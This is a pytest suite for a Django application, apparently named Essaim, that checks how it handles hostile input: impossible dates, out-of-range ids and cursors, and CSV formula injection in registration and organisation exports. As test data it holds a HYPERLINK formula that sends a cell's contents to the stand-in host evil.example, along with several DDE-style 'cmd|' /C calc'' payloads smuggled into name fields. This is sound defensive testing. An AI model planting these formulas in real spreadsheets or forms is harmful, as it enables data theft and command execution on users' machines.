"""What a stranger sends never breaks Essaim: impossible dates, ids beyond the database's
integers, formula injection in spreadsheets, report abuse, control characters (issue 13)."""

import base64
import json

import pytest

pytestmark = pytest.mark.django_db

IMPOSSIBLE_DATES = ["2025-02-30", "9999-99-99", "2025-12-01T25:00:00", "2025-12-01T10:00:00+25:00",
                    "0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-05:00"]  # fmt: skip
SEARCHES = ["/api/v1/organisations", "/api/v1/map/clusters?bbox=-10,35,20,60&zoom=5",
            "/fr/atlas/", "/fr/atlas/map/", "/exports/organisations.csv",
            "/exports/organisations.json", "/exports/organisations.geojson",
            "/exports/organisations.jsonld", "/exports/data-inclusion/structures.json",
            "/exports/lieux-de-mediation-numerique.csv"]  # fmt: skip


@pytest.mark.parametrize("moment", IMPOSSIBLE_DATES)
@pytest.mark.parametrize("address", SEARCHES)
def test_an_impossible_date_is_a_clear_400(client, demo, address, moment):
    separator = "&" if "?" in address else "?"
    response = client.get(f"{address}{separator}updated_since={moment}", HTTP_ACCEPT_LANGUAGE="fr")
    assert response.status_code == 400
    text = response.content.decode()
    assert "updated_since" in text
    assert "ISO 8601" in text
    if address.startswith("/api/"):
        assert response.json()["parameter"] == "updated_since"


def test_a_real_date_still_filters(client, demo):
    assert client.get("/api/v1/organisations?updated_since=2000-02-29").json()["count"] > 0
    assert client.get("/api/v1/organisations?updated_since=9000-01-01").json()["count"] == 0


def cursor_of(payload: dict) -> str:
    return base64.urlsafe_b64encode(json.dumps(payload).encode()).decode().rstrip("=")


@pytest.mark.parametrize("number", [2**63, 2**63 - 1, 10**30])
def test_an_id_beyond_the_database_is_a_404(client, demo, number):
    response = client.get(f"/api/v1/organisations/{number}")
    assert response.status_code in (400, 404)
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["detail"]
    for page in (f"/fr/atlas/{number}/x/", f"/fr/atlas/{number}/x/history/",
                 f"/fr/events/{number}/x/", f"/fr/resources/{number}/x/",
                 f"/fr/opportunities/{number}/x/", f"/api/v1/events/{number}",
                 f"/api/v1/resources/{number}", f"/api/v1/opportunities/{number}"):  # fmt: skip
        assert client.get(page).status_code in (400, 404), page


@pytest.mark.parametrize("payload", [{"after": 99999999999999999999999}, {"after": 2**63},
                                     {"offset": 10**12}, {"offset": 2**70}])  # fmt: skip
def test_a_cursor_beyond_the_database_is_a_400(client, demo, payload):
    sort = "" if "after" in payload else "&sort=name"
    response = client.get(f"/api/v1/organisations?cursor={cursor_of(payload)}{sort}")
    assert response.status_code == 400
    assert response.json()["parameter"] == "cursor"


# 3. Formula injection in spreadsheets --------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"clic")'


def csv_cells(body: bytes) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_a_registrant_cannot_plant_a_formula_in_the_organisers_csv(client, moderator):
    from essaim.commons.models import Event
    from tests.helpers import upcoming_event

    event = upcoming_event()
    url = f"/en/events/{event.pk}/{event.slug}/register/"
    for name, email in [(FORMULA, "a@example.org"), ("@SUM(1+1)*cmd|' /C calc'!A0", "b@example.org"),
                        ("-2+3+cmd|' /C calc'!A0", "c@example.org"), ("+33 6 12 34 56 78", "d@example.org")]:  # fmt: skip
        client.post(url, {"name": name, "email": email, "organisation_name": "Coop",
                          "seat_locality": "Lille", "seat_country": "FR"})  # fmt: skip
    client.force_login(moderator)
    event = Event.objects.get(pk=event.pk)
    assert event.registrations.count() == 4
    rows = csv_cells(client.get(f"/en/events/{event.pk}/{event.slug}/registrations.csv").content)
    names = [row[0] for row in rows[1:]]
    assert "'" + FORMULA in names
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names
    assert "'-2+3+cmd|' /C calc'!A0" in names
    assert "+33 6 12 34 56 78" in names, "a phone number is not a formula: left as it is"
    assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)


def test_exports_neutralise_formulas_and_an_import_gives_them_back(client, demo, commit, tmp_path):
    from tests.test_imports import run_import, write_csv

    path = write_csv(tmp_path / "planted.csv", [
        ["p-1", FORMULA, "Lille", "FR", "50.63", "-3.06", "digital-mediation", ""],
        ["p-2", "@danger", "Lille", "FR", "50.63", "3.06", "digital-mediation", ""],
        ["p-3", "''=an apostrophe first", "Lille", "FR", "", "", "digital-mediation", ""],
    ])  # fmt: skip
    run_import(path, commit, source="planted")
    body = b"".join(client.get("/exports/organisations.csv?q=lille").streaming_content)
    rows = csv_cells(body)
    header = rows[0]
    by_name = {row[header.index("name")]: row for row in rows[1:]}
    assert "'" + FORMULA in by_name
    assert "'@danger" in by_name
    assert "''=an apostrophe first" in by_name
    assert by_name["'" + FORMULA][header.index("longitude")] == "-3.06"
    assert not any(cell.startswith(("=", "@", "+")) for row in rows[1:] for cell in row)

    # The export, imported again as another source, gives the same names back.
    export = tmp_path / "export.csv"
    export.write_bytes(body)
    run_import(export, commit, source="again", partial=True)
    from essaim.atlas.models import Organisation

    names = set(Organisation.objects.filter(source="again").values_list("name", flat=True))
    assert {FORMULA, "@danger", "'=an apostrophe first"} <= names


def test_the_lmn_export_neutralises_formulas(client, demo, commit, tmp_path):
    from tests.test_imports import run_import, write_csv

    header = ["id", "name", "address", "postal_code", "locality", "country", "services"]
    path = write_csv(tmp_path / "place.csv", [
        ["m-1", "=1+cmd|' /C calc'!A0", "1 rue de la Paix", "59000", "Lille", "FR",
         "digital-mediation"],
    ], header=header)  # fmt: skip
    run_import(path, commit, source="places")
    rows = csv_cells(b"".join(client.get("/exports/lieux-de-mediation-numerique.csv").streaming_content))
    header = rows[0]
    names = [row[header.index("nom")] for row in rows[1:]]
    assert "'=1+cmd|' /C calc'!A0" in names
